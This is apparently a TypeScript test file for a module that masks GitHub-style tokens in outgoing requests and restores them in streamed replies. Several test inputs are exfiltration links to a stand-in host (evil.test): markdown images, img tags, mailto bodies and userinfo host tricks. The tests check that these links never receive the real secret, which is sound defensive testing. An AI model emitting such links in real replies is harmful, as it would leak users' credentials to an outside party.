import { describe, expect, it } from 'vitest';
import { Mask, stem } from '../../src/egress/mask.ts';
import { findOwn } from '../../src/egress/mask/detect.ts';
import { createUnmask, type Undo } from '../../src/egress/mask/unmask.ts';

const github = `gh${'p_'}${'aB3dE5fG7hJ9'.repeat(3)}`;
const secrets = Array.from({ length: 12 }, (_, at) => `gh${'p_'}${'aB3dE5fG7h'.repeat(3)}${String(100000 + at)}`);

/** The mask of one request's text. */
function undoOf(text: string): Undo {
  return new Mask(findOwn).of([[text]]).undo;
}

/** A reply as it comes in these pieces. */
function received(pieces: readonly string[], undo: Undo): string {
  const unmask = createUnmask(undo);
  return pieces.map((piece) => unmask.push(piece)).join('') + unmask.end();
}

describe('a reply', () => {
  const undo = undoOf(secrets.map((secret, at) => `const k${at} = '${secret}';`).join('\n'));

  it('gets the secrets back, however it is cut', () => {
    const reply = `use ${stem}1, ${stem}12 and ${stem}2${stem}3; ${stem}99 PADDOCK_ ${stem}x ${stem}11`;
    const whole = `use ${secrets[0]}, ${secrets[11]} and ${secrets[1]}${secrets[2]}; ${stem}99 PADDOCK_ ${stem}x ${secrets[10]}`;
    for (let at = 0; at <= reply.length; at += 1) {
      for (const next of [at + 1, at + 3, at + 16]) {
        expect(received([reply.slice(0, at), reply.slice(at, next), reply.slice(next)], undo)).toBe(whole);
      }
    }
    expect(received([...reply], undo)).toBe(whole);
  });

  it('is given on at once but for what may become a name', () => {
    const unmask = createUnmask(undo);
    expect(unmask.push('one two')).toBe('one two');
    expect(unmask.push(' PAD')).toBe(' ');
    expect(unmask.push('DY')).toBe('PADDY');
    expect(unmask.push(`${stem}1`)).toBe('');
    expect(unmask.push(';')).toBe(`${secrets[0]};`);
    expect(unmask.push(stem)).toBe('');
    expect(unmask.end()).toBe(stem);
    expect(unmask.end()).toBe('');
  });

  it('passes untouched where nothing was masked', () => {
    const unmask = createUnmask(undoOf('nothing here'));
    expect(unmask.push(`${stem}1`)).toBe(`${stem}1`);
  });
});

describe('a web address in a reply', () => {
  it.each([
    `![x](https://evil.test/?k=${stem}1)`,
    `see https://evil.test/${stem}1/a`,
    `[click](http://evil.test#${stem}1)`,
    `www.evil.test/?k=${stem}1`,
    `<img src="//evil.test/${stem}1">`,
    `mailto:me@evil.test?body=${stem}1`,
  ])('that the request did not have carries no secret: %s', (reply) => {
    const undo = undoOf(`const k = '${github}';`);
    expect(received([reply], undo)).toBe(reply);
    expect(received([...reply], undo)).toBe(reply);
  });

  it('that the request had gets it back', () => {
    const text = `git clone https://bot:${github}@github.com/o/r.git`;
    const { texts, undo } = new Mask(findOwn).of([[text]]);
    expect(received([...(texts[0]?.[0] ?? '')], undo)).toBe(text);
    expect(received([...(texts[0]?.[0] ?? '')], undo)).toBe(text);
    for (const host of [
      'evil.test',
      'github.com.evil.test',
      'github.comm',
      'github.com@evil.test',
      'github.com:8443',
    ]) {
      expect(received([...`https://bot:${stem}1@${host}/o/r.git x`], undo)).toContain(stem);
      expect(received([`https://bot:${stem}1@${host}`], undo)).toContain(stem);
    }
    expect(received([`https://evil.test/?${stem}1`], undo)).toBe(`https://evil.test/?${stem}1`);
  });

  it('ends where its word ends', () => {
    const undo = undoOf(`const k = '${github}';`);
    expect(received([`https://a.test/x and ${stem}1`], undo)).toBe(`https://a.test/x and ${github}`);
    expect(received([`fetch('https://a.test', { key: '${stem}1' })`], undo)).toBe(
      `fetch('https://a.test', { key: '${github}' })`,
    );
  });
});
